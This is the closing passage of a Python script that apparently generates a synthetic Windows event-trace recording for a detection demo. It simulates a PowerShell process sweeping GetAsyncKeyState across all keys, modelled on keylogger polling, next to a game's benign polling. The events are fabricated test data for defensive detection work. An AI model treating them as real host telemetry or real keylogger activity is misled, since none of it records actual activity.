        # ps: Start-Sleep 40 ms between sweeps of 247 keys, ~6 calls per ms; it never gets key input.
        host.t.add(WIN32K, "GetAsyncKeyState", sec(t), ps.pid, PID=ps.pid,
                   MsSinceLastKeyEvent=int((t - 300.0) * 1000), BackgroundCallCount=gap_ms * 6)  # fmt: skip
        if playing:  # the game polls every frame and the keys are its own
            host.t.add(WIN32K, "GetAsyncKeyState", sec(t + 0.0005), game.pid, PID=game.pid,
                       MsSinceLastKeyEvent=gap_ms, BackgroundCallCount=gap_ms * 2)  # fmt: skip
    host.end(game, sec(560))
    host.end(helper, sec(DURATION_S - 6))
    host.end(reader, sec(DURATION_S - 3))
    host.end(ime, sec(DURATION_S - 2))


def build() -> list[RawEvent]:
    rng = random.Random(SEED)
    trace = Trace({p.name: p for p in load_providers()}, rng)
    host = Host(trace)
    procs = boot(host)
    desktop_day(host, procs)
    keylogger_episode(host, procs)
    key_capture_episodes(host, procs)
    trace.events.sort(key=lambda e: e.ts)  # stable: events at the same instant keep their order
    return trace.events


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).parents[1] / "examples" / "demo.jsonl.zst")
    args = parser.parse_args()
    args.out.parent.mkdir(parents=True, exist_ok=True)
    count = write_recording(args.out, HEADER, build())
    print(f"{args.out}: {count} synthetic events, host {HEADER.host.name}")


if __name__ == "__main__":
    main()
